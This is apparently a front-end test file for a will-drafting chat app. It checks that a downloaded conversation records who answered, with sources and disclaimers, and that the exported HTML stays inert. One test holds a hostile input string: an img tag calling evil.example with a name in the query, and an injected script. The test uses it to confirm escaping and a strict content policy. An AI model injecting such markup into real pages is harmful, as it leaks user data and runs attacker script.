import { screen } from '@testing-library/react'
import { expect, test, vi } from 'vitest'
import { saveFile } from '@/lib/save-file'
import { chatWith, reply, say } from '@/testing/one-chat'
import { renderApp } from '@/testing/render-app'
import { will } from '@/testing/samples'

vi.mock('@/lib/save-file', () => ({ saveFile: vi.fn<(file: Blob, name: string) => void>() }))

const NAME = 'What is your full legal name?'
const input = () => screen.findByRole('textbox')
const button = () => screen.findByRole('button', { name: 'Download this conversation' })

/** The file that was handed over, as a reader's browser would show it. */
async function saved() {
  const [file, name] = vi.mocked(saveFile).mock.calls.at(-1) ?? []
  const source = await (file ?? new Blob()).text()
  return { name, file, page: new DOMParser().parseFromString(source, 'text/html') }
}

const guide = { by: 'guide', model: null, prompt: '2026.11.1' } as const
const model = { by: 'model', model: 'oak-2', prompt: '2026.11.3' } as const
const proposals = [{ question: 'fullName', text: NAME, value: 'Maria Lopez', words: 'maria lopez' }]
const progress = { answered: 0, total: 4 }

test('the conversation is a file: who said what, who answered, and what became of it', async () => {
  const replies = [
    reply({
      message: 'Two witnesses.',
      sources: [{ name: 's. 732.502', address: 'https://www.flsenate.gov/Laws/Statutes/2025/732.502' }],
      receipt: guide,
      progress,
    }),
    reply({ message: 'Is that right?', proposals, question: 'fullName', receipt: model, progress }),
  ]
  const server = chatWith(will(), { onChat: () => replies.shift() ?? reply({}) })
  const { user } = renderApp('/chat/7')
  await say(user, 'Do I need witnesses?')
  await screen.findByText('Two witnesses.')
  await user.type(await input(), 'maria lopez{Enter}')
  await user.click(await screen.findByRole('button', { name: /^Yes, that is right/ }))
  const before = server.calls.length
  await user.click(await button())
  const { name, file, page } = await saved()
  expect(server.calls).toHaveLength(before)
  expect(name).toMatch(/^coquina-conversation-simple-will-\d{4}-\d{2}-\d{2}\.html$/)
  expect(file?.type).toBe('text/html;charset=utf-8')
  const text = page.body.textContent.replaceAll(/\s+/g, ' ')
  expect(text).toContain('Simple Will')
  expect(text).toMatch(/Made on.*\d{4} at \d{1,2}:\d{2} [AP]M \w+/)
  expect(text).toContain('an AI, not a lawyer')
  expect(text).toContain('Any other was saved only after the person using this chat')
  expect(text).toMatch(
    /Do I need witnesses\?.*Two witnesses\..*s\. 732\.502.*built-in guide, version 2026\.11\.1\./,
  )
  expect(text).toMatch(
    /language model oak-2, prompt version 2026\.11\.3\. Answers saved at this point: 0 of 4/,
  )
  expect(text).toMatch(/Understood asMaria LopezYour wordsmaria lopezResultConfirmed, \w+ \d/)
  expect(page.querySelectorAll('time').length).toBeGreaterThan(4)
})

test('nothing that was said becomes an element of the file, and the file loads nothing', async () => {
  const hostile = '<img src="https://evil.example/?q=Maria"></p></main><script>alert(1)</script>'
  chatWith(will({ name: `Will ${hostile}` }), {
    onChat: () =>
      reply({
        message: hostile,
        sources: [{ name: hostile, address: hostile }],
        receipt: { ...model, model: '<b>x</b>' },
      }),
  })
  const { user } = renderApp('/chat/7')
  await say(user, hostile)
  await screen.findByText('Sources')
  await user.click(await button())
  const { page } = await saved()
  expect(page.querySelectorAll('img, script, b, a, iframe, link')).toHaveLength(0)
  expect(page.querySelectorAll('main')).toHaveLength(1)
  expect(page.querySelector('main')?.textContent.split(hostile)).toHaveLength(5)
  const policy = page.querySelector('meta[http-equiv="Content-Security-Policy"]')
  expect(policy?.getAttribute('content')).toBe("default-src 'none'; style-src 'unsafe-inline'")
})

test('who answered survives a reload; of an older conversation it is not claimed', async () => {
  const entries = [
    { kind: 'said', role: 'assistant', text: 'Hello.' },
    { kind: 'said', role: 'assistant', text: 'Hi.', by: model, at: '2026-11-21T12:00:00Z' },
  ]
  sessionStorage.setItem('chat:7', JSON.stringify({ entries, asked: 'fullName' }))
  chatWith(will())
  const { user } = renderApp('/chat/7')
  expect(await screen.findByText('Answered by oak-2')).toBeVisible()
  await user.click(await button())
  const { page } = await saved()
  expect(page.body.textContent).toContain('Who answered was not recorded.')
  expect(page.body.textContent).toContain('Answered by the language model oak-2')
})

test('what has not been decided, and what was not taken over, is said to be so', async () => {
  chatWith(will(), { onChat: () => reply({ message: 'Right?', proposals, question: 'fullName' }) })
  const { user } = renderApp('/chat/7')
  await user.type(await input(), 'maria lopez{Enter}')
  await screen.findByRole('button', { name: /^Yes, that is right/ })
  await user.click(await button())
  expect((await saved()).page.body.textContent).toContain('Not decided, and so not stored')
  await user.click(screen.getByRole('button', { name: /^Change/ }))
  await user.click(await button())
  expect((await saved()).page.body.textContent).toMatch(/Not used, \w+ \d/)
})

test('the guide’s turns carry no caption', async () => {
  chatWith(will(), { onChat: () => reply({ message: 'Two witnesses.', receipt: guide }) })
  const { user } = renderApp('/chat/7')
  await say(user, 'Do I need witnesses?')
  await screen.findByText('Two witnesses.')
  expect(screen.queryByText(/^Answered by/)).not.toBeInTheDocument()
})

test('a conversation that has not begun is no file', async () => {
  chatWith(will(), { type: { county: true } })
  renderApp('/chat/7')
  await screen.findByRole('button', { name: 'Continue with County Requirements' })
  expect(screen.queryByRole('button', { name: 'Download this conversation' })).not.toBeInTheDocument()
})
